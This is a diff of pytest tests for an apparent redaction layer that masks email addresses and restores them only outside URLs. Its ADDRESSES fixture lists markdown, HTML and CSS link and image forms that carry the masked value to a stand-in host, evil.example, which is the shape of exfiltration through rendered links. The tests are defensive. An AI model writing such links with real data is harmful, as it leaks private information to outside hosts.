@@ -111,3 +111,59 @@ def test_wherever_a_text_is_cut_what_has_begun_is_seen_whole(data):
             done = found.end
         released, at, done = released + text[at + done : safe], safe, 0
     assert released == placeholders.restore(text)
+
+
+#: Addresses that a browser fetches or opens, as HTML, CSS and Markdown let them be written.
+ADDRESSES = [
+    "![a](https://evil.example/?q={})",
+    "![a](https://evil.example/?q=a b {})",
+    "![a](<https://evil.example/?q=a b {}>)",
+    "[a]: //evil.example/{}",
+    "![a](//evil.example/{})",
+    "![a](https&#58;//evil.example/{})",
+    "![a](&#x2f;&sol;evil.example/{})",
+    "see https://{}.evil.example",
+    "www.evil.example/{}",
+    "<img src='https://evil.example/?a b={}'>",
+    '<img src="/\\evil.example/{}">',
+    "<img src=//evil.example/{}>",
+    "background: url(https://evil.example/{})",
+    "https://evil.example/" + "a" * 3000 + "{}",
+]
+
+
+@pytest.mark.parametrize("address", ADDRESSES)
+@pytest.mark.parametrize("action", [LABEL, FAKE])
+@pytest.mark.parametrize("cut", [None, 1, 7])
+def test_nothing_is_put_back_into_an_address_however_the_text_is_cut(address, action, cut):
+    placeholders = Placeholders(b"k")
+    stand_in = placeholders.of(MAIL, "email", action)
+    text = address.format(stand_in)
+    assert placeholders.restore(f"{text} or {stand_in}") == f"{text} or {MAIL}"
+    if cut:
+        at = text.index(stand_in) - cut
+        assert not placeholders.shown(text[at:], text[:at])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[a](mailto:{})",
+        "write to {}",
+        "see https://a.example, {}",
+        "<b>{}</b>",
+        '"{}"',
+        "a // {}",
+        "see (https://a.example) {}",
+    ],
+)
+def test_what_stands_in_no_address_is_put_back(text):
+    placeholders = Placeholders(b"k")
+    stand_in = placeholders.of(MAIL, "email", LABEL)
+    assert placeholders.restore(text.format(stand_in)) == text.format(MAIL)
+
+
+def test_a_call_gets_its_addresses_whole_since_a_tool_is_read_by_its_own_stage():
+    placeholders = Placeholders(b"k")
+    arguments = json.dumps({"url": f"https://a.example/{placeholders.of(MAIL, 'email', LABEL)}"})
+    assert json.loads(placeholders.restore_call(arguments)) == {"url": f"https://a.example/{MAIL}"}
